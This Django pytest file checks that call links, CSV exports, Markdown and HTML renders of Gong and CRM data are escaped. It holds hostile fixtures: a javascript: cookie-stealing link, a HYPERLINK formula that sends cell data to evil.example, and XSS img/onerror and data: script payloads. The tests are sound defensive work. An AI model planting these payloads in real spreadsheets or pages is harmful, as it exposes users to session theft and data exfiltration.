"""Gong and CRM text is untrusted: a call URL is only ever an http(s) link (at ingest and wherever it is rendered),
CSV cells never start a formula, and Markdown exports carry no raw HTML."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Group

from coaching.access import GROUP_MANAGER, viewer_for_user
from coaching.exports import report_export
from coaching.weekly.render import review_render
from core.escaping import csv_cell, http_link, markdown_text
from gong.models import Call
from gong.schemas import CallMetaData
from gong.services.ingest import call_fields
from tests.coaching.weekly_rows import session_create, team_create

pytestmark = pytest.mark.django_db

EVIL_URL = "javascript:alert(document.cookie)"
EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"click")'
EVIL_HTML = '<img src=x onerror="alert(1)">'
START, END = dt.date(2026, 3, 2), dt.date(2026, 3, 8)


def _meta(url: str) -> CallMetaData:
    return CallMetaData.model_validate({"id": "123", "url": url, "meetingUrl": url})


@pytest.mark.parametrize(
    ("url", "gong_base", "stored"),
    [
        ("https://us-1.app.gong.io/call?id=123", "https://api.gong.io", "https://us-1.app.gong.io/call?id=123"),
        (EVIL_URL, "https://api.gong.io", ""),
        ("JaVaScRiPt:alert(1)", "http://127.0.0.1:9000", ""),
        ("data:text/html,<script>alert(1)</script>", "https://api.gong.io", ""),
        ("//evil.example/x", "https://api.gong.io", ""),
        ("http://app.gong.io/call?id=1", "https://api.gong.io", ""),  # plain http only for a local simulator
        ("http://127.0.0.1:9000/call?id=1", "http://127.0.0.1:9000", "http://127.0.0.1:9000/call?id=1"),
    ],
)
def test_ingest_keeps_only_https_call_links(settings, url, gong_base, stored):
    settings.GONG_BASE_URL = gong_base
    fields = call_fields(meta=_meta(url))
    assert (fields["url"], fields["meeting_url"]) == (stored, stored)


def test_the_guards_themselves():
    assert http_link(EVIL_URL) == "" and http_link(" https://x.example/a b)") == "https://x.example/a%20b%29"
    assert [csv_cell(v) for v in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", 3, -2.5]] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", 3, -2.5,
    ]  # fmt: skip
    assert markdown_text("<b>x</b> [a](b) | *y*\n# h") == "&lt;b&gt;x&lt;/b&gt; \\[a\\](b) \\| \\*y\\* \\# h"


@pytest.fixture
def hostile(django_user_model):
    """A team whose rep name is a formula and whose analysed call has a javascript: link and an HTML title
    (stored before the ingest guard existed, so the render guards must hold on their own)."""
    manager, (rep,) = team_create(reps=1)
    rep.first_name, rep.last_name = EVIL_NAME, EVIL_HTML
    rep.save()
    session = session_create(rep=rep, started=dt.datetime(2026, 3, 3, 10, tzinfo=dt.UTC), scores=1)
    Call.objects.filter(pk=session.call_id).update(url=EVIL_URL, title=f"{EVIL_HTML} @cmd", account_name="-2+3")
    user = django_user_model.objects.create_user("maya", manager.email, "pw", is_staff=True)
    user.groups.add(Group.objects.get_or_create(name=GROUP_MANAGER)[0])
    manager.django_user = user
    manager.save()
    return {"manager": manager, "rep": rep, "call_id": session.call_id, "user": user}


def _export(hostile, fmt: str) -> str:
    viewer = viewer_for_user(hostile["user"])
    return report_export(viewer=viewer, scope="team", subject=hostile["manager"].pk, start=START, end=END, fmt=fmt).body


def test_export_csv_cells_from_gong_text_never_start_a_formula(hostile):
    rows = list(csv.reader(io.StringIO(_export(hostile, "csv"))))
    names = {row[6] for row in rows[1:]}
    assert "'" + hostile["rep"].name in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if not _number(cell))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_search_export_cells_never_start_a_formula_and_never_carry_a_non_http_link(client, hostile):
    client.force_login(hostile["user"])
    response = client.get("/admin/gong/call/search/export.csv?start=2026-03-01&end=2026-03-31")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    row = next(r for r in rows if r["call_id"] == hostile["call_id"])
    assert (row["title"], row["account"], row["gong_url"]) == (f"{EVIL_HTML} @cmd", "'-2+3", "")
    assert row["host"] == "'" + hostile["rep"].name


def test_markdown_export_passes_no_raw_html_and_no_javascript_link(hostile):
    body = _export(hostile, "md")
    assert "<img" not in body and "javascript:" not in body
    assert '&lt;img src=x onerror="alert(1)"&gt;' in body


def test_html_exports_and_weekly_review_mail_render_no_javascript_link(hostile):
    html = _export(hostile, "html")
    assert "javascript:" not in html and "<img src=x" not in html
    from coaching.weekly.compute import RepIndex, review_compute
    from coaching.weekly.selectors import review_data_load
    from coaching.weekly.weeks import period_for_dates

    period = period_for_dates(START, END)
    rep_ids = [hostile["rep"].pk]
    index = RepIndex(review_data_load(rep_ids=rep_ids, period=period, history_start=START, viewer=None))
    content = review_compute(
        index=index, scope="team", subject=hostile["manager"], rep_ids=rep_ids, threshold=3.0, missing=[]
    )
    assert content.metrics["calls_to_review"], "the hostile call is one of the calls to listen to"
    mail = review_render(metrics=content.metrics, trends=content.trends, skill_gaps=content.skill_gaps)
    assert "javascript:" not in mail.html and "javascript:" not in mail.text


def test_the_call_page_never_links_a_non_http_url(client, hostile):
    client.force_login(hostile["user"])
    page = client.get(f"/admin/gong/call/{hostile['call_id']}/change/").content.decode()
    assert "Open in Gong" not in page and "javascript:" not in page
    Call.objects.filter(pk=hostile["call_id"]).update(url="https://app.gong.io/call?id=7")
    page = client.get(f"/admin/gong/call/{hostile['call_id']}/change/").content.decode()
    assert 'href="https://app.gong.io/call?id=7"' in page
